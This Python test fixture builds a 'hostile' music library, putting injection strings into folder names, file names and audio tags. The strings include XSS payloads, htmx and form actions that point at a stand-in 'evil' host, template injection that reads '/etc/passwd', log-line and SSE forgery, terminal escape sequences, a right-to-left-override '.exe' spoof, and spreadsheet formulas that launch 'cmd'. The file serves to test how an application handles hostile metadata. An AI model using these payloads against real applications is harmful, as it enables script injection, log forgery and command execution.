"""A music library whose names and tags want to be more than text."""

from __future__ import annotations

import contextlib
import os
from pathlib import Path

from cli.demo.audio import FORMATS, extension, silence
from cli.demo.tagging import write_tags
from worker.library.model import Tags

#: What a forged record in a log would begin with, and a terminal would do.
FORGED, OSC = "[2026-01-01 00:00:00,000: CRITICAL/Forged]", "\x1b]0;owned\x07"
TEXTS = (
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit=1'>",
    "\"><svg onload=window.hit=1>' onmouseover='window.hit=1",
    "</bdi></section></template><form id=scan action=//evil>",
    '<hx-partial hx-target="#scan" hx-get="//evil" hx-trigger="load">x</hx-partial>',
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}%(x)s%s{0}",
    "song\u202e3pm.exe\u2066\u2067\u200f",
    f"line\n{FORGED} root signed in\r\nevent: needle:parked\ndata: x\n\n",
    f"\x00nul\x1b[31mred\x1b[2J{OSC}\x9b0m\x08\x7f",
    "=HYPERLINK(\"//evil\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1;\t=2",
    "half \ud800 surrogate \udfff",
    "\u2028line\u2029paragraph\ufeff\ufffe",
    "long " * 200_000,
)  # fmt: skip


def name_of(text: str) -> bytes:
    """`text` as the name of a file or folder: bytes, whatever they are."""
    data = text.encode("utf-8", "surrogatepass").replace(b"\0", b"\xff").replace(b"/", b"_")
    return data[:200]


def make_hostile_library(folder: Path) -> None:
    """Every text as name of a folder, of files, in the tags of files of a third of the formats,
    and in the names of files that cannot be read."""
    for number, text in enumerate(TEXTS):
        place = os.path.join(os.fsencode(folder), b"%02d" % number + name_of(text))
        os.makedirs(place)
        for form in list(FORMATS)[number % 3 :: 3]:
            path = os.path.join(place, name_of(text) + b"." + extension(form).encode())
            _write(path, silence(form, 1), text)
        for ending, data in ((b"mp3", b"garbage"), (b"flac", b""), (b"m4a", b"\0" * 99)):
            _write(os.path.join(place, b"broken " + name_of(text) + b"." + ending), data)


def _write(path: bytes, data: bytes, text: str = "") -> None:
    with open(path, "wb") as file:
        file.write(data)
    if text:
        tags = Tags(
            title=text,
            artists=(text, text[:40]),
            album=text,
            album_artists=(text,),
            genres=(text,),
            composers=(text,),
            label=text,
            comment=text,
            date=text[:60],
        )
        # Not every format can hold every text; its name is hostile all the same.
        with contextlib.suppress(Exception):
            write_tags(os.fsdecode(path), tags)
